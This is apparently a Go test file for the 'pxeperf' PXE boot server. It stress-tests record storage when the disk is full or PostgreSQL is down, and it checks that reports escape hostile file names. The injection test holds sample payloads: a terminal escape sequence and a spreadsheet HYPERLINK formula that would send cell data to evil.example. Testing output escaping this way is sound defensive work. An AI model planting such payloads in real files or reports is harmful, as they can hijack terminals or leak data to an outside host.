//go:build linux

package hostile

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/pxeperf/pxeperf/internal/testkit/nstest"
	"github.com/pxeperf/pxeperf/internal/testkit/pgtest"
)

// storeYAML serves HTTP only (the record flood's source), the admin
// listener on loopback as by default.
const storeYAML = "dhcp:\n  mode: off\ntftp:\n  enabled: false\n"

// smallImage is the file the record floods fetch: each fetch is one record.
const smallImage = "small.img"

func putSmallImage(root string) {
	_ = os.WriteFile(filepath.Join(root, smallImage), make([]byte, 4096), 0o644)
}

// fetchFlood fetches smallImage over conns keep-alive connections from the
// client side until ctx ends or max fetches are done (issue 27 rows 10-12:
// every fetch is a record), adding each completed one to done.
func fetchFlood(conns int, max int64, done *atomic.Int64) flood {
	return func(ctx context.Context, t *testing.T, l *lab) {
		tr := &http.Transport{DialContext: nstest.DialContext(l.P.Client), MaxIdleConnsPerHost: conns}
		defer tr.CloseIdleConnections()
		c := &http.Client{Transport: tr, Timeout: 2 * time.Second}
		url := "http://" + l.P.ServerIP.String() + "/" + smallImage
		var started atomic.Int64
		var wg sync.WaitGroup
		for range conns {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for ctx.Err() == nil && started.Add(1) <= max {
					req, _ := http.NewRequestWithContext(ctx, "GET", url, nil)
					resp, err := c.Do(req)
					if err != nil {
						continue
					}
					n, err := io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					if err == nil && resp.StatusCode == 200 && n == 4096 {
						done.Add(1)
					}
				}
			}()
		}
		wg.Wait()
	}
}

// curlSmall is the real board: curl fetching smallImage (lab.curlOK),
// each completed fetch added to done.
func curlSmall(l *lab, done *atomic.Int64) func(ctx context.Context) error {
	fetch := l.curlOK("/"+smallImage, 4096)
	return func(ctx context.Context) error {
		if err := fetch(ctx); err != nil {
			return err
		}
		done.Add(1)
		return nil
	}
}

// accounted reports whether records (stored or counted dropped) account
// for every fetch a client completed: at least one each, and at most one
// more for each of fetchFlood's 4 connections, whose last fetch may have
// been recorded (before its last byte) and then cut by the flood's end.
func accounted(records, completed int64) bool {
	return records >= completed && records <= completed+4
}

// getHealth is the lab's /healthz; the test ends when it cannot be read.
func getHealth(t *testing.T, l *lab) nstest.Health {
	t.Helper()
	h, err := l.S.Health()
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// status runs the real `pxeperf status` against the lab's admin listener.
func status(t *testing.T, l *lab) string {
	t.Helper()
	out, err := nstest.Output(l.S.NS, 10*time.Second, nstest.Binary(t), "status", "--config", filepath.Join(l.S.Dir, "pxeperf.yaml"),
		"--admin-addr", l.S.Admin)
	if err != nil {
		t.Fatalf("pxeperf status: %v\n%s", err, out)
	}
	return out
}

// storeSiege runs fl for d beside a real board fetching once a second
// (each within 1 s), within bound and 200 goroutines.
func storeSiege(t *testing.T, l *lab, d time.Duration, fl flood, b func(context.Context) error, bound nstest.Usage) sieged {
	t.Helper()
	return siege(t, l, siegeOpts{Flood: fl, For: d, Warm: time.Second, Every: time.Second,
		Boards: []board{{"a board's HTTP fetch", b}}, Bound: bound, MaxGoroutines: 200})
}

// TestStoreDiskFull (issue 27 row 11): the data folder is a 3 MiB tmpfs,
// filled up once serve runs; a 4 s fetch flood makes every record's
// journal write fail. A board is still served within 1 s; the failure is
// logged at most once a minute (it was once per record); /healthz and
// `pxeperf status` say degraded, disk full and how many records were
// dropped; memory, goroutines and fds stay bounded; once space is back,
// the records kept in memory reach the store.
func TestStoreDiskFull(t *testing.T) {
	nstest.RequireRoot(t)
	nstest.RequireTool(t, "curl", "mount", "umount")
	yaml := storeYAML + "records:\n  queue_entries: 500\n"
	var data string
	l := newLab(t, nstest.Options{}, yaml, func(root string) {
		putSmallImage(root)
		data = filepath.Join(filepath.Dir(root), "data")
		tmpfsData(t, root, 3)
	})
	// Fill the data folder: SQLite, its WAL and the journal have what
	// they had at start, and nothing more fits.
	fill := filepath.Join(data, "fill")
	if out, err := exec.Command("dd", "if=/dev/zero", "of="+fill, "bs=64k").CombinedOutput(); !strings.Contains(string(out), "No space left") {
		t.Fatalf("filling the tmpfs: %v: %s", err, out)
	}
	// Full before any record is written: /healthz says so already.
	if h := getHealth(t, l); !h.Records.DiskFull || h.Records.DataFreeBytes != 0 {
		t.Errorf("/healthz with a full data folder, no write failed yet: disk_full %v, data_free_bytes %d; want true, 0",
			h.Records.DiskFull, h.Records.DataFreeBytes)
	}
	var done atomic.Int64
	r := storeSiege(t, l, 4*time.Second, fetchFlood(4, 40000, &done), curlSmall(l, &done),
		nstest.Usage{RSS: 200 << 20, FDs: 200})
	peak, maxG := r.Peak, r.Goroutines
	logged := strings.Count(l.S.Out.String(), "record journal write failed")
	t.Logf("disk full: %d fetches completed; log lines about the failed journal write: %d; peak RSS %d MiB, %d fds, %d goroutines",
		done.Load(), logged, peak.RSS>>20, peak.FDs, maxG)
	if done.Load() < 1000 {
		t.Fatalf("only %d fetches completed: the flood did not load the record sink", done.Load())
	}
	if logged > 2 {
		t.Errorf("%d log lines about the failed journal write for %d records, want at most 2 (once a minute)", logged, done.Load())
	}
	h := getHealth(t, l)
	t.Logf("/healthz: %s %q dropped %d %v", h.Status, h.Problems, h.Records.Dropped, h.Records.DroppedBy)
	if h.Status != "degraded" || !h.Records.DiskFull || !strings.Contains(strings.Join(h.Problems, "; "), "disk full") {
		t.Errorf("/healthz with a full data folder: status %q, disk_full %v, problems %q; want degraded, disk full", h.Status, h.Records.DiskFull, h.Problems)
	}
	if h.Records.Dropped == 0 || !strings.Contains(strings.Join(h.Problems, "; "), "records dropped") {
		t.Errorf("/healthz: %d records dropped, problems %q; want the records past records.queue_entries dropped and said", h.Records.Dropped, h.Problems)
	}
	if n, _ := l.S.Metric("pxeperf_records_dropped_total"); n != float64(h.Records.Dropped) {
		t.Errorf("pxeperf_records_dropped_total %v, /healthz says %d", n, h.Records.Dropped)
	}
	out := status(t, l)
	if !strings.Contains(out, "health: DEGRADED") || !strings.Contains(out, "DISK FULL") || !strings.Contains(out, "dropped") {
		t.Errorf("pxeperf status with a full data folder does not say so:\n%s", out)
	}
	// The boot port's /healthz, as the container's HEALTHCHECK reads it:
	// degraded, said, and still exit 0 (boards are served).
	hc, err := nstest.Output(l.P.Client, 10*time.Second, nstest.Binary(t), "healthcheck", "--url", "http://"+l.P.ServerIP.String()+"/healthz")
	if err != nil || !strings.Contains(hc, "degraded") || !strings.Contains(hc, "disk full") {
		t.Errorf("pxeperf healthcheck of the boot port with a full data folder: %v: %s", err, hc)
	}
	// Space again: what waited in memory reaches the store.
	if err := os.Remove(fill); err != nil {
		t.Fatal(err)
	}
	// The writer retries with backoff up to 10 s between tries.
	if !nstest.WaitFor(30*time.Second, func() bool {
		h := getHealth(t, l)
		return h.Records.Pending == 0 && h.Records.Store == "ok"
	}) {
		t.Errorf("records still pending 30 s after space came back: %+v", getHealth(t, l).Records)
	}
	written, _ := l.S.Metric("pxeperf_records_written_total")
	h = getHealth(t, l)
	t.Logf("space back: %v records written, %d dropped, of %d fetches", written, h.Records.Dropped, done.Load())
	if n := int64(written) + h.Records.Dropped; !accounted(n, done.Load()) {
		t.Errorf("%v records written + %d dropped = %d for %d fetches completed", written, h.Records.Dropped, n, done.Load())
	}
}

// TestStoreJournalCapPostgresDown (issue 27 row 12): PostgreSQL goes down
// and a fetch flood fills the journal. It stops at records.journal_max_mib
// (1 MiB here; it had no cap: 123 MB in 30 s), /healthz and status say the
// store is failing and the journal full, and once the database is back
// every record journaled reaches it: each completed fetch is in the
// database or counted as dropped at the cap.
func TestStoreJournalCapPostgresDown(t *testing.T) {
	nstest.RequireRoot(t)
	nstest.RequireTool(t, "curl")
	pg := pgtest.Start(t)
	db := pg.NewDB(t)
	yaml := storeYAML + "store:\n  url: " + db + "\nrecords:\n  queue_entries: 64\n  queue_mib: 1\n  journal_max_mib: 1\n"
	l := newLab(t, nstest.Options{}, yaml, putSmallImage)
	pg.Stop()
	var done atomic.Int64
	r := storeSiege(t, l, 5*time.Second, fetchFlood(4, 20000, &done), curlSmall(l, &done),
		nstest.Usage{RSS: 150 << 20, FDs: 200})
	peak, maxG := r.Peak, r.Goroutines
	fi, err := os.Stat(filepath.Join(l.S.Data, "records.journal"))
	if err != nil {
		t.Fatal(err)
	}
	h := getHealth(t, l)
	t.Logf("database down: %d fetches, journal %d bytes (cap %d), dropped %v; peak RSS %d MiB, %d fds, %d goroutines",
		done.Load(), fi.Size(), h.Records.JournalMaxBytes, h.Records.DroppedBy, peak.RSS>>20, peak.FDs, maxG)
	if fi.Size() > 1<<20 {
		t.Errorf("journal %d bytes, over records.journal_max_mib (1 MiB)", fi.Size())
	}
	probs := strings.Join(h.Problems, "; ")
	if h.Status != "degraded" || h.Records.Store != "failing" || !strings.Contains(probs, "journal at") || h.Records.DroppedBy["record: journal full"] == 0 {
		t.Errorf("/healthz with the database down and the journal full: %+v", h)
	}
	if out := status(t, l); !strings.Contains(out, "health: DEGRADED") || !strings.Contains(out, "store failing") || !strings.Contains(out, "journal full") {
		t.Errorf("pxeperf status with the database down does not say so:\n%s", out)
	}
	pg.StartAgain()
	if !nstest.WaitFor(30*time.Second, func() bool {
		h := getHealth(t, l)
		return h.Records.Store == "ok" && h.Records.Pending == 0 && h.Records.Backlog == 0
	}) {
		t.Fatalf("the journal was not shipped 30 s after the database came back: %+v", getHealth(t, l).Records)
	}
	stored := pgtest.Count(t, db, "SELECT count(*) FROM records")
	h = getHealth(t, l)
	t.Logf("database back: %d records stored + %d dropped at the cap = %d fetches completed (%d)", stored, h.Records.Dropped,
		int64(stored)+h.Records.Dropped, done.Load())
	if !accounted(int64(stored)+h.Records.Dropped, done.Load()) || stored == 0 {
		t.Errorf("%d stored + %d dropped != %d fetches completed: a record a client completed was lost below the cap",
			stored, h.Records.Dropped, done.Load())
	}
}

// hostileNames are file names a board on a hostile network asks for: an
// OSC sequence that retitles the terminal and a clear-screen, a
// spreadsheet formula that calls out, a newline and a Markdown pipe.
var hostileNames = []string{
	"\x1b]0;owned\x07\x1b[2Jboot.efi",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"pxelinux.cfg/a\nb|c",
}

// rrqFlood sends a TFTP RRQ for each of names from the client side, n
// rounds (issue 27 row 16: each becomes an error record with that name).
func rrqFlood(names []string, n int) flood {
	return func(ctx context.Context, t *testing.T, l *lab) {
		err := nstest.Do(l.P.Client, func() error {
			c, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(netip.AddrPortFrom(l.P.ServerIP, 69)))
			if err != nil {
				return err
			}
			defer c.Close()
			for range n {
				for _, name := range names {
					if ctx.Err() != nil {
						return nil
					}
					if _, err := c.Write([]byte("\x00\x01" + name + "\x00octet\x00")); err != nil {
						return err
					}
				}
			}
			return nil
		})
		if err != nil {
			t.Errorf("RRQ flood: %v", err)
		}
	}
}

// TestOutputInjection (issue 27 row 16): TFTP RRQs and HTTP GETs for
// hostile names end up as records; `pxeperf report` in text, Markdown and
// CSV and `pxeperf status` print them with the controls escaped, formulas
// prefixed and rows whole.
func TestOutputInjection(t *testing.T) {
	nstest.RequireTool(t, "curl")
	l := newLab(t, nstest.Options{}, "dhcp:\n  mode: off\n", putSmallImage)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	rrqFlood(hostileNames, 1)(ctx, t, l)
	for _, name := range hostileNames {
		out, err := l.curl(ctx, "-s", "-o", "/dev/null", "-w", "%{http_code}", l.httpURL("/"+urlPath(name)))
		if err != nil || out != "404" {
			t.Fatalf("curl %q: %v %s", name, err, out)
		}
	}
	// Every record is in the store (the writer commits within a second):
	// none waits in the journal (report's note says so, and counts a line),
	// and there is a CSV line for each (the name with a newline has two).
	report := func(format string) string {
		out, err := nstest.Output("", 20*time.Second, nstest.Binary(t), "report", "--data", l.S.Data, "--table", "fetches",
			"--kind", "all", "--format", format)
		if err != nil {
			t.Fatalf("pxeperf report --format %s: %v\n%s", format, err, out)
		}
		return out
	}
	if !nstest.WaitFor(10*time.Second, func() bool {
		out := report("csv")
		return !strings.Contains(out, "are not in these tables") && strings.Count(out, "\n") >= 1+2*len(hostileNames)
	}) {
		t.Fatalf("the records of the hostile fetches did not reach the store:\n%s", report("csv"))
	}
	for _, format := range []string{"text", "markdown", "csv"} {
		out := report(format)
		t.Logf("report --format %s:\n%s", format, out)
		if strings.ContainsAny(out, "\x1b\x07") {
			t.Errorf("report --format %s prints raw escape sequences: %q", format, out)
		}
		rows := 0
		for _, line := range strings.Split(out, "\n") {
			if strings.Contains(line, "pxelinux.cfg/a") {
				rows++
				if !strings.Contains(line, `x0ab`) { // \x0a (\\x0a in Markdown)
					t.Errorf("report --format %s: the newline in a name is not escaped: %q", format, line)
				}
				if format == "markdown" && !strings.Contains(line, `\|c`) {
					t.Errorf("markdown: the pipe in a name splits the cell: %q", line)
				}
			}
			if format == "csv" && strings.Contains(line, "HYPERLINK") && !strings.Contains(line, `"'=HYPERLINK`) {
				t.Errorf("csv: the formula is not neutralised: %q", line)
			}
		}
		if rows != 2 {
			t.Errorf("report --format %s: %d rows with the newline name, want 2 (TFTP, HTTP) whole rows", format, rows)
		}
	}
	out := status(t, l)
	if strings.ContainsAny(out, "\x1b\x07") || !strings.Contains(out, `\x1b]0;owned`) {
		t.Errorf("pxeperf status prints the names raw:\n%q", out)
	}
}

// urlPath escapes a name for a URL path, keeping '/'.
func urlPath(name string) string {
	parts := strings.Split(name, "/")
	for i, p := range parts {
		parts[i] = url.PathEscape(p)
	}
	return strings.Join(parts, "/")
}
